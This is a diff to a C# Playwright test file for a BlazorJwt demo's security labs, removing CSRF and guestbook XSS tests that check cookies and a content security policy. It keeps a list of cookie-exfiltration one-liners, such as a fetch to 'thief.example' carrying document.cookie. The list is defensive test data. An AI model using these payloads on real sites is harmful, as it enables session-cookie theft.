@@ -9,11 +9,9 @@ using Microsoft.Playwright;
 
 namespace BlazorJwt.Tests.Browser;
 
-/// <summary>The labs that stand on the other host: each run from both loopback names, and two visitors at once.</summary>
+/// <summary>What holds the labs in that stand on the other host. What they show a visitor, on both loopback names, is in KeepSafeKeyboardTests.</summary>
 public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTest(app, browser)
 {
-    private const string Readable = "Cookie that scripts can read";
-
     private static readonly string[] WaysOut =
     [
         "fetch('https://thief.example/?' + document.cookie).catch(() => {})",
@@ -29,67 +27,6 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         "location.href = '/?' + document.cookie",
         "new EventSource('/?' + document.cookie)",
     ];
-
-    [Theory]
-    [InlineData("localhost")]
-    [InlineData("127.0.0.1")]
-    public async Task The_evil_site_gets_the_cookie_with_SameSite_None_along_and_no_other(string name)
-    {
-        var session = await OpenAsync();
-        var page = session.Page;
-        await page.GotoAsync(At(name, "/"));
-        await page.GotoAsync(At(name, "/labs/evil-site"));
-        await Assertions.Expect(page.GetByText("kept", new() { Exact = true })).ToHaveCountAsync(4);
-        await session.AssertAccessibleAsync("before the evil site");
-
-        await page.GetByRole(AriaRole.Link, new() { Name = "Go to the evil site" }).ClickAsync();
-        await Assertions.Expect(session.Heading).ToHaveTextAsync("You have won");
-        Assert.NotEqual(name, new Uri(page.Url).Host);
-        await session.AssertAccessibleAsync("the evil site");
-        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the unguarded desk" }).ClickAsync();
-        await Assertions.Expect(session.Heading).ToHaveTextAsync("200: the order was taken");
-        await page.GetByRole(AriaRole.Link, new() { Name = "Back to the evil site" }).ClickAsync();
-        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the guarded desk" }).ClickAsync();
-        await Assertions.Expect(session.Heading).ToHaveTextAsync("403: the order was refused");
-        await session.AssertAccessibleAsync("the answer");
-
-        var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
-        Assert.Equal((true, "came along: order taken; the guard refused"), cells["HttpOnly cookie, SameSite=None"]);
-        Assert.All(["HttpOnly cookie, SameSite=Lax", "HttpOnly cookie, SameSite=Strict", Readable], place => Assert.Equal((false, "did not come along"), cells[place]));
-
-        await page.GetByRole(AriaRole.Button, new() { Name = "Order at the guarded desk from here" }).ClickAsync();
-        await Assertions.Expect(session.Heading).ToHaveTextAsync("200: the order was taken");
-        await Assertions.Expect(page.GetByText("came along", new() { Exact = true })).ToHaveCountAsync(4);
-    }
-
-    [Theory]
-    [InlineData("localhost")]
-    [InlineData("127.0.0.1")]
-    public async Task An_entry_s_script_reads_the_decoys_it_can_reach_and_the_app_s_policy_blocks_it(string name)
-    {
-        var session = await OpenAsync();
-        await OpenBookAsync(session, name);
-        Assert.NotEqual(name, new Uri(session.Page.Url).Host);
-        await session.AssertAccessibleAsync("the guestbook");
-        await session.Page.GetByRole(AriaRole.Button, new() { Name = "A picture that fails" }).ClickAsync();
-
-        var hole = await OpenTabAsync(session, "Open the page with the hole");
-        await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("BlazorJwt-Guestbook-Readable=eyJ");
-        await Assertions.Expect(hole.Locator("#seen")).ToContainTextAsync("localStorage, Cookie that scripts can read.");
-        await Assertions.Expect(session.Page.Locator("#brought")).ToContainTextAsync("Read: localStorage");
-        var strict = await OpenTabAsync(session, "Open the same under the app’s policy");
-        await Assertions.Expect(strict.Locator("#violations")).ToContainTextAsync("script-src-attr blocked inline");
-        await Assertions.Expect(strict.Locator("#outcome")).ToHaveTextAsync("The entry’s script did not run.");
-        await Assertions.Expect(strict.Locator("#loot")).ToHaveTextAsync("Nothing yet.");
-
-        await Assertions.Expect(strict.Locator("#outcome[data-brought]")).ToHaveCountAsync(1);
-        var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
-        Assert.Equal((true, "read; the app’s policy blocked it"), cells["localStorage"]);
-        Assert.Equal((true, "read; the app’s policy blocked it"), cells[Readable]);
-        Assert.All(["None", "Lax", "Strict"], mode => Assert.Equal((false, "not read; the app’s policy blocked it"), cells[$"HttpOnly cookie, SameSite={mode}"]));
-        // The decoys that no script read were there to be read.
-        Assert.Equal(3, (await session.Context.CookiesAsync()).Count(cookie => cookie.HttpOnly && cookie.Value.StartsWith("eyJ", StringComparison.Ordinal) && cookie.Name.StartsWith("BlazorJwt-Guestbook-", StringComparison.Ordinal)));
-    }
 
     [Fact]
     public async Task No_request_leaves_the_page_with_the_hole()
